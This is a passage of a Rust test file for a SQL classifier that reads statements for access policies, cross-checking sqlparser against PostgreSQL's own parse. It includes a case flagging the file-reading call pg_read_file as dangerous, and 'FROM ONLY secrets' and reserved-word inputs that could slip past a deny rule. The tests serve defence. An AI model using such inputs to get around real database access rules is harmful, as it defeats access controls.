            "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END",
            "statement(s)",
        ),
    ] {
        let ours = ours_only.classify(sql);
        assert!(
            ours.statements.iter().any(|s| s.kind != Kind::Unparsable),
            "not a differential (ours does not read it either): {sql}: {ours:?}"
        );
        let c = classify(sql);
        assert_eq!(c.statements.len(), 1, "{sql}: {c:?}");
        let s = &c.statements[0];
        assert_eq!(s.kind, Kind::Unparsable, "{sql}");
        let e = s.error.as_deref().unwrap_or_default();
        assert!(
            e.starts_with("cross-check: ") && e.contains(why),
            "{sql}: {e}"
        );
    }
}

/// Statements sqlparser cannot parse, of the types whose policy-relevant
/// content is their kind and names, are classified from PostgreSQL's own
/// tree (with the cross-check on); everything else it cannot parse stays
/// unparsable.
#[test]
fn statements_sqlparser_cannot_parse_are_read_from_postgres_tree() {
    let ours_only = Classifier::default().with_cross_check(false);
    let cases: &[(&str, Kind, &[&str], &[&str])] = &[
        (
            "REFRESH MATERIALIZED VIEW CONCURRENTLY mv",
            Kind::Ddl,
            &["mv"],
            &[],
        ),
        (
            "ALTER SEQUENCE s.seq RESTART WITH 5000",
            Kind::Ddl,
            &["s.seq"],
            &[],
        ),
        (
            "ALTER SEQUENCE seq OWNED BY orders.id",
            Kind::Ddl,
            &["seq"],
            &["orders"],
        ),
        (
            "VACUUM (ANALYZE, VERBOSE) orders, customers",
            Kind::Utility,
            &[],
            &["customers", "orders"],
        ),
        (
            "REINDEX TABLE CONCURRENTLY orders",
            Kind::Utility,
            &[],
            &["orders"],
        ),
        (
            "CLUSTER orders USING orders_pkey",
            Kind::Utility,
            &[],
            &["orders"],
        ),
        (
            "ALTER TABLE m ATTACH PARTITION m_2025 FOR VALUES FROM ('2025-01-01') TO ('2026-01-01')",
            Kind::Ddl,
            &["m"],
            &["m_2025"],
        ),
        (
            "ALTER TABLE child INHERIT parent",
            Kind::Ddl,
            &["child"],
            &["parent"],
        ),
        (
            "ALTER TABLE orders SET SCHEMA archive",
            Kind::Ddl,
            &["orders"],
            &[],
        ),
        (
            "ALTER TRIGGER trg ON orders RENAME TO trg_2",
            Kind::Ddl,
            &["orders"],
            &[],
        ),
        (
            "ALTER MATERIALIZED VIEW mv RENAME TO mv2",
            Kind::Ddl,
            &["mv"],
            &[],
        ),
        (
            "CREATE TABLE c (LIKE customers INCLUDING ALL)",
            Kind::Ddl,
            &["c"],
            &["customers"],
        ),
        (
            "CREATE FOREIGN TABLE ft (a int) SERVER s",
            Kind::Ddl,
            &["ft"],
            &[],
        ),
        ("DROP INDEX CONCURRENTLY s.idx", Kind::Ddl, &["s.idx"], &[]),
        (
            "CREATE STATISTICS st ON a, b FROM orders",
            Kind::Ddl,
            &[],
            &["orders"],
        ),
        (
            "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO ro",
            Kind::Dcl,
            &["public.*"],
            &[],
        ),
        (
            "ALTER DEFAULT PRIVILEGES FOR ROLE app IN SCHEMA a, b REVOKE ALL ON SEQUENCES FROM ro",
            Kind::Dcl,
            &["a.*", "b.*"],
            &[],
        ),
        (
            "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO ro",
            Kind::Dcl,
            &["*"],
            &[],
        ),
        (
            "ALTER DEFAULT PRIVILEGES GRANT EXECUTE ON FUNCTIONS TO ro",
            Kind::Dcl,
            &[],
            &[],
        ),
        ("DROP OWNED BY app CASCADE", Kind::Dcl, &["*"], &[]),
        ("REASSIGN OWNED BY app TO migrator", Kind::Dcl, &["*"], &[]),
    ];
    for (sql, kind, w, r) in cases {
        assert!(
            ours_only.classify(sql).any_unparsable(),
            "sqlparser reads it: {sql}"
        );
        let s = one(sql);
        assert_eq!((s.kind, s.error.as_deref()), (*kind, None), "{sql}");
        assert_eq!(writes(&s), *w, "{sql}");
        assert_eq!(reads(&s), *r, "{sql}");
    }
    // Calls are reported and dangerous ones flagged, as for any statement.
    let s = one("CREATE STATISTICS st ON (pg_read_file(path)) FROM files");
    assert_eq!(s.functions, [q("pg_read_file")]);
    assert_eq!(dangerous(&s), ["pg_read_file"]);
    // Beside statements sqlparser reads, each decided on its own.
    let c = all("REFRESH MATERIALIZED VIEW mv; SELECT * FROM mv");
    assert_eq!(
        c.iter().map(|s| s.kind).collect::<Vec<_>>(),
        [Kind::Ddl, Kind::Read]
    );
    // Not described by its names: code to run later, or rows going elsewhere
    // (a publication exports every table without naming one).
    for sql in [
        "CREATE RULE r AS ON INSERT TO orders DO INSTEAD NOTHING",
        "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
        "IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO public",
        "CREATE PUBLICATION p FOR ALL TABLES",
    ] {
        let s = one(sql);
        assert_eq!(s.kind, Kind::Unparsable, "{sql}");
    }
    // The audit text holds no constant and no comment.
    let (_, text) = Classifier::default().classify_text(
        "ALTER TABLE m /* key 123 */ ATTACH PARTITION p FOR VALUES IN ('secret', E'x\\'', $$y$$, 42)",
    );
    assert_eq!(
        text,
        "ALTER TABLE m ATTACH PARTITION p FOR VALUES IN ($1, $2, $3, $4)"
    );
    // It parses again and classifies as the statement did (`policy simulate`).
    let again = one(&text);
    let original = one("ALTER TABLE m ATTACH PARTITION p FOR VALUES IN (1)");
    assert_eq!(
        (again.kind, again.tables, again.functions),
        (original.kind, original.tables, original.functions)
    );
    // Where only a literal fits, the statement is not quoted.
    assert_eq!(
        Classifier::default()
            .classify_text("ALTER SEQUENCE s RESTART WITH 5000")
            .1,
        "<unparsable statement>"
    );
}

#[test]
fn only_is_not_a_table_name() {
    // sqlparser reads `FROM ONLY secrets` as a table named `only` with the
    // alias `secrets`: a rule denying reads of secrets would not have seen
    // it. Unparsable (denied) in every position, with or without the
    // cross-check (which catches it too: PostgreSQL reads table secrets).
    let plain = Classifier::default().with_cross_check(false);
    for sql in [
        "SELECT * FROM ONLY secrets",
        "select * from only secrets natural join u",
        "SELECT * FROM t JOIN ONLY secrets ON secrets.id = t.id",
        "DELETE FROM ONLY secrets",
        "UPDATE ONLY secrets SET a = 1",
        "INSERT INTO t SELECT * FROM ONLY secrets",
    ] {
        let s = &plain.classify(sql).statements[0];
        assert_eq!(s.kind, Kind::Unparsable, "{sql}: {s:?}");
        assert_eq!(
            s.error.as_deref(),
            Some("ONLY, which the SQL parser reads as a table named only"),
            "{sql}"
        );
        assert_eq!(one(sql).kind, Kind::Unparsable, "{sql}");
    }
    // Any reserved word read as a table name is the same misreading;
    // after a dot PostgreSQL takes any word.
    for sql in [
        "SELECT * FROM user",
        "DELETE FROM natural",
        "INSERT INTO left VALUES (1)",
    ] {
        let s = &plain.classify(sql).statements[0];
        assert_eq!(
            (s.kind, s.error.as_deref()),
            (
                Kind::Unparsable,
                Some("a word PostgreSQL reserves, read as a table name")
            ),
            "{sql}"
        );
    }
    assert_eq!(reads(&one("SELECT * FROM public.order")), ["public.order"]);
    assert_eq!(one("SELECT left('abc', 2) FROM t").kind, Kind::Read);
    // A table really named only is quoted in PostgreSQL, and a plain name in MySQL.
    assert_eq!(reads(&one("SELECT * FROM \"only\" o")), ["only"]);
    let m = classify_mysql("SELECT * FROM only o");
    assert_eq!(reads(&m.statements[0]), ["only"]);
}
